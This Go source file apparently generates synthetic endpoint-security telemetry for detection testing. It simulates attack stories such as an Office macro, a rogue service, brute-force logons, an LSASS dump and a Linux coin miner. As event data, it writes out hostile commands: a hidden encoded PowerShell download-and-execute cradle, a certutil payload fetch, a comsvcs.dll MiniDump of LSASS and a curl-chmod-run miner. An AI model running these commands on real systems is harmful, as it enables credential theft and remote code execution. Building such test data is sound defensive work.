package gen

import (
	"encoding/base64"
	"fmt"
	"unicode/utf16"
)

// story returns the events of one attack story on a host that suits it, oldest first.
func (g *Generator) story() []event {
	var linux, servers, workstations []*host
	for _, h := range g.hosts {
		switch {
		case h.linux():
			linux = append(linux, h)
		case h.server:
			servers = append(servers, h)
		default:
			workstations = append(workstations, h)
		}
	}
	type story struct {
		hosts []*host
		run   func(*host) []event
	}
	stories := []story{
		{workstations, g.adwareDownload},
		{workstations, g.officeMacro},
		{append(servers, workstations...), g.newService},
		{servers, g.logonBurst},
		{append(servers, workstations...), g.credentialDump},
		{linux, g.coinMiner},
		{linux, g.sshBurst},
	}
	for {
		if len(g.plot) == 0 {
			g.plot = g.r.Perm(len(stories))
		}
		s := stories[g.plot[0]]
		g.plot = g.plot[1:]
		if len(s.hosts) > 0 {
			return s.run(pickOf(g.r, s.hosts))
		}
	}
}

// encodedCommand is PowerShell's -EncodedCommand form of a script: base64 of its UTF-16LE.
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// adwareDownload: the browser downloads an installer that the anti-malware detects and deletes.
func (g *Generator) adwareDownload(h *host) []event {
	var evs []event
	browser := g.running(h, &evs, "chrome.exe")
	name := pickOf(g.r, []string{"FreePDFConverter_setup.exe", "YouTubeDownloader_2.4.exe", "codec_pack_full.exe"})
	f := g.newFile(h.userHome()+`\Downloads\`+name, name, 2<<20+g.r.IntN(4<<20))
	e := g.procEvent(h, "filechange", browser)
	setFile(e, "Dropped", f)
	e["FileOperationType"], e["DroppedFileType"] = 0, 1
	d := g.detect(h, browser, f, "File", "OnAccess", "not-a-virus:HEUR:AdWare.Win32.Generic")
	return append(evs, e, d, g.result(h, d, "Deleted"))
}

// officeMacro: a document from an email starts PowerShell with an encoded command that
// downloads and drops a payload.
func (g *Generator) officeMacro(h *host) []event {
	var evs []event
	explorer := g.running(h, &evs, "explorer.exe")
	doc := h.userHome() + `\Downloads\` + pickOf(g.r, []string{"Invoice_0931.docm", "Payment_details.docm", "CV_Anna_Smirnova.doc"})
	word, e := g.spawn(h, explorer, officeImages["WINWORD.EXE"], fmt.Sprintf(`"%s" /n "%s"`, officeImages["WINWORD.EXE"], doc), h.user)
	evs = append(evs, e)
	ip := pickOf(g.r, attackerIPs)
	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')", ip)
	ps, e := g.spawn(h, word, powershell, `powershell.exe -nop -w hidden -enc `+encodedCommand(script), h.user)
	tag(e, "ioa-office-ps", "high")
	evs = append(evs, e)
	scan := g.procEvent(h, "amsiscan", ps)
	scan["ObjectContent"], scan["ObjectContentType"] = script, 0
	tag(scan, "ioa-ps-encoded", "high")
	conn := g.procEvent(h, "connection", ps)
	conn["Direction"], conn["LocalIp"], conn["LocalPort"] = "Outbound", h.ip, 49152+g.r.IntN(16000)
	conn["RemoteHostName"], conn["RemoteIp"], conn["RemotePort"] = "", ip, 80
	conn["Method"], conn["URI"] = "GET", "http://"+ip+"/a.ps1"
	payload := g.newFile(h.userHome()+`\AppData\Roaming\Microsoft\Windows\updater.exe`, "payload"+ip, 184320)
	drop := g.procEvent(h, "filechange", ps)
	setFile(drop, "Dropped", payload)
	drop["FileOperationType"], drop["DroppedFileType"] = 0, 1
	d := g.detect(h, ps, binary(powershell), "Process", "Behavior", "")
	ioa(d, "High", "High", "ioa-office-ps", "ioa-ps-encoded")
	av := g.detect(h, ps, payload, "File", "OnAccess", "HEUR:Trojan.Win32.Generic")
	return append(evs, scan, conn, drop, d, av, g.result(h, av, "Deleted"))
}

// newService: an administrator's shell downloads a tool with certutil and installs it as a
// service, which starts and listens.
func (g *Generator) newService(h *host) []event {
	var evs []event
	shell := g.running(h, &evs, "cmd.exe")
	ip := pickOf(g.r, attackerIPs)
	svc := pickOf(g.r, []string{"WinSvcUpd", "MsUpdateHelper", "SysMonAgent"})
	target := `C:\Windows\Temp\` + svc + ".exe"
	cu, e := g.spawn(h, shell, certutil, fmt.Sprintf(`certutil.exe -urlcache -split -f http://%s/%s.bin %s`, ip, svc, target), shell.user)
	tag(e, "ioa-certutil", "medium")
	evs = append(evs, e)
	conn := g.procEvent(h, "connection", cu)
	conn["Direction"], conn["LocalIp"], conn["LocalPort"] = "Outbound", h.ip, 49152+g.r.IntN(16000)
	conn["RemoteHostName"], conn["RemoteIp"], conn["RemotePort"] = "", ip, 80
	conn["Method"], conn["URI"] = "GET", fmt.Sprintf("http://%s/%s.bin", ip, svc)
	tool := g.newFile(target, "svc"+svc, 96256)
	drop := g.procEvent(h, "filechange", cu)
	setFile(drop, "Dropped", tool)
	drop["FileOperationType"], drop["DroppedFileType"] = 0, 1
	evs = append(evs, conn, drop)
	_, e = g.spawn(h, shell, sc, fmt.Sprintf(`sc.exe create %s binPath= "%s" start= auto`, svc, target), shell.user)
	tag(e, "ioa-new-service", "high")
	evs = append(evs, e)
	services := g.find(h, "services.exe")
	reg := g.procEvent(h, "registry", services)
	reg["KeyName"], reg["ValueName"], reg["ValueData"] = `HKLM\SYSTEM\CurrentControlSet\Services\`+svc, "ImagePath", target
	reg["RegistryOperationType"] = 0
	evs = append(evs, reg, g.windowsLog(h, "7045", shell.user, map[string]string{"ObjectName": svc, "ProcessName": target}))
	p, e := g.spawn(h, services, target, target, `NT AUTHORITY\SYSTEM`)
	listen := g.procEvent(h, "portlisten", p)
	listen["LocalIp"], listen["LocalPort"] = "0.0.0.0", 4444
	d := g.detect(h, p, tool, "Process", "Behavior", "")
	ioa(d, "High", "Medium", "ioa-certutil", "ioa-new-service")
	return append(evs, e, listen, d)
}

// logonBurst: failed network logons from one address against a server, then one that works.
func (g *Generator) logonBurst(h *host) []event {
	ip := pickOf(g.r, attackerIPs)
	var evs []event
	users := []string{"administrator", "admin", "backup", "svc_sql", "test"}
	for i := range 12 + g.r.IntN(12) {
		e := g.windowsLog(h, "4625", `CORP\`+users[i%len(users)], map[string]string{"TargetDomainName": "CORP", "PackageName": "NTLM", "ProcessName": `C:\Windows\System32\lsass.exe`})
		e["LogonRemoteHost"] = ip
		tag(e, "ioa-brute-force", "medium")
		evs = append(evs, e)
	}
	ok := g.windowsLog(h, "4624", `CORP\backup`, map[string]string{"TargetDomainName": "CORP", "PackageName": "NTLM", "ProcessName": `C:\Windows\System32\lsass.exe`})
	ok["LogonRemoteHost"] = ip
	created := g.windowsLog(h, "4720", `CORP\backup`, map[string]string{"TargetDomainName": "CORP", "ObjectName": "support_tmp"})
	tag(created, "ioa-brute-force", "high")
	lsass := g.find(h, "lsass.exe")
	d := g.detect(h, nil, binary(lsass.image), "Process", "Behavior", "")
	ioa(d, "High", "High", "ioa-brute-force")
	return append(evs, ok, created, d)
}

// credentialDump: a shell dumps LSASS's memory with rundll32 and comsvcs.dll.
func (g *Generator) credentialDump(h *host) []event {
	var evs []event
	shell := g.running(h, &evs, "powershell.exe")
	lsass := g.find(h, "lsass.exe")
	dump := fmt.Sprintf(`C:\Windows\Temp\%d.dmp`, lsass.pid)
	p, e := g.spawn(h, shell, rundll32, fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsass.pid, dump), shell.user)
	tag(e, "ioa-lsass-dump", "high")
	mod := g.procEvent(h, "module", p)
	setFile(mod, "Dll", binary(`C:\Windows\System32\comsvcs.dll`))
	drop := g.procEvent(h, "filechange", p)
	setFile(drop, "Dropped", g.newFile(dump, dump+h.name, 48<<20))
	drop["FileOperationType"], drop["DroppedFileType"] = 0, 0
	d := g.detect(h, p, binary(rundll32), "Process", "Behavior", "HEUR:Trojan-PSW.Win32.Lsass.gen")
	ioa(d, "High", "High", "ioa-lsass-dump")
	return append(evs, e, mod, drop, d, g.result(h, d, "Detected"))
}

// coinMiner: a Linux shell downloads a miner into /tmp, makes it executable and runs it.
func (g *Generator) coinMiner(h *host) []event {
	var evs []event
	sh := g.running(h, &evs, "bash")
	ip := pickOf(g.r, attackerIPs)
	target := "/tmp/.x/kworker"
	curl, e := g.spawn(h, sh, "/usr/bin/curl", fmt.Sprintf("curl -fsSL http://%s/xmr -o %s", ip, target), sh.user)
	evs = append(evs, e)
	conn := g.procEvent(h, "connection", curl)
	conn["Direction"], conn["LocalIp"], conn["LocalPort"] = "Outbound", h.ip, 49152+g.r.IntN(16000)
	conn["RemoteHostName"], conn["RemoteIp"], conn["RemotePort"] = "", ip, 80
	conn["Method"], conn["URI"] = "GET", "http://"+ip+"/xmr"
	conn["LinuxEventType"], conn["LinuxOperationResult"] = "Connect", "Success"
	miner := g.newFile(target, "miner"+ip, 2<<20+512)
	drop := g.procEvent(h, "filechange", curl)
	setFile(drop, "Dropped", miner)
	drop["FileOperationType"], drop["DroppedFileType"] = 0, 1
	drop["LinuxEventType"], drop["LinuxOperationResult"] = "Open", "Success"
	h.stop(curl)
	end := g.procEvent(h, "process_terminate", curl)
	end["ParentSystemPid"], end["UniqueParentPid"] = sh.pid, sh.unique
	chmod, e2 := g.spawn(h, sh, "/usr/bin/chmod", "chmod +x "+target, sh.user)
	ch := g.procEvent(h, "filechange", chmod)
	setFile(ch, "Dropped", miner)
	ch["FileOperationType"], ch["DroppedFileType"] = 1, 1
	ch["LinuxEventType"], ch["LinuxOperationResult"] = "Chmod", "Success"
	h.stop(chmod)
	m, e3 := g.spawn(h, sh, target, target+" -o pool.minexmr.example:4444 --donate-level 1 -B", sh.user)
	pool := g.procEvent(h, "connection", m)
	pool["Direction"], pool["LocalIp"], pool["LocalPort"] = "Outbound", h.ip, 49152+g.r.IntN(16000)
	pool["RemoteHostName"], pool["RemoteIp"], pool["RemotePort"] = "pool.minexmr.example", "192.0.2.77", 4444
	pool["LinuxEventType"], pool["LinuxOperationResult"] = "Connect", "Success"
	d := g.detect(h, m, miner, "File", "OnAccess", "HEUR:Trojan.Linux.CoinMiner.gen")
	h.stop(m)
	return append(evs, conn, drop, end, e2, ch, e3, pool, d, g.result(h, d, "Deleted"))
}

// sshBurst: many SSH connections from one address, then a root shell from it.
func (g *Generator) sshBurst(h *host) []event {
	sshd := g.find(h, "sshd")
	ip := pickOf(g.r, attackerIPs)
	var evs []event
	for range 10 + g.r.IntN(10) {
		e := g.procEvent(h, "connection", sshd)
		e["Direction"], e["LocalIp"], e["LocalPort"] = "Inbound", h.ip, 22
		e["RemoteHostName"], e["RemoteIp"], e["RemotePort"] = "", ip, 32768+g.r.IntN(28000)
		e["LinuxEventType"], e["LinuxOperationResult"] = "Connect", "Success"
		tag(e, "ioa-ssh-brute-force", "medium")
		evs = append(evs, e)
	}
	sh, e := g.spawn(h, sshd, "/usr/bin/bash", "-bash", "root")
	evs = append(evs, e)
	d := g.detect(h, sh, binary(sh.image), "Process", "Behavior", "")
	ioa(d, "Medium", "Medium", "ioa-ssh-brute-force")
	return append(evs, d)
}
